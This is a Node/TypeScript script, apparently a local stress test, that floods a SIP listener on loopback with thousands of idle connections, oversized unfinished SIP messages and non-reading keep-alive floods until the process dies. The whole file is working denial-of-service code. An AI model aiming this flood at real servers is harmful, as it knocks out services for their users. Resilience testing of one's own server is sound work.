/**
 * Attacks a listener on loopback from many addresses until it is killed: idle connections, unfinished messages, and
 * keep-alives from connections that do not read. A connection that is closed is replaced.
 *
 *   node flood-attack.mjs PORT [low]   with a low priority
 */

import net from 'node:net';
import os from 'node:os';

const port = Number(process.argv[2]);
const IDLE = 10_000;
const UNFINISHED = 1_000;
const MEBIBYTE = 1024 * 1024;

// The attacked process and this one share two processors. On a busy machine, a process of low priority would not run at all.
if (process.argv[3] === 'low') os.setPriority(os.constants.priority.PRIORITY_LOW);

let opened = 0;
let sent = 0;

function connect(address: string, onConnect: (socket: net.Socket) => void, again: () => void): void {
  const socket = net.connect({ port, host: '127.0.0.1', localAddress: address }, () => onConnect(socket));
  socket.on('error', () => {});
  socket.once('close', () => setTimeout(again, 1000));
}

function idle(number: number): void {
  // 1,000 from each address.
  connect(
    `127.1.${Math.floor(number / 1000)}.1`,
    () => void opened++,
    () => idle(number),
  );
}

const head = [
  'MESSAGE sip:bob@domain.test SIP/2.0',
  'Via: SIP/2.0/TCP client.test;branch=z9hG4bK1',
  'From: <sip:psa@domain.test>;tag=a1',
  'To: <sip:bob@domain.test>',
  'Call-ID: c1',
  'CSeq: 1 MESSAGE',
];
const body = Math.floor(0.99 * MEBIBYTE);
const message = Buffer.concat([
  Buffer.from(`${head.join('\r\n')}\r\nContent-Length: ${body}\r\n\r\n`),
  Buffer.alloc(Math.floor(0.99 * body)),
]);

function unfinished(number: number): void {
  const send = (socket: net.Socket) => socket.write(message, () => void sent++);
  connect(`127.2.${number % 10}.1`, send, () => unfinished(number));
}

const pings = Buffer.from('\r\n\r\n'.repeat(16_384));

function keepAlives(number: number): void {
  const flood = (socket: net.Socket) => {
    socket.pause();
    // A write that ends at once must not keep this process from its other connections.
    const more = () => void (socket.destroyed || socket.write(pings, () => setImmediate(more)));
    more();
  };
  connect(`127.3.${number}.1`, flood, () => keepAlives(number));
}

for (let number = 0; number < IDLE; number++) idle(number);
for (let number = 0; number < UNFINISHED; number++) unfinished(number);
for (let number = 0; number < 4; number++) keepAlives(number);
setInterval(() => console.log(`attacking ${opened} ${sent}`), 200);
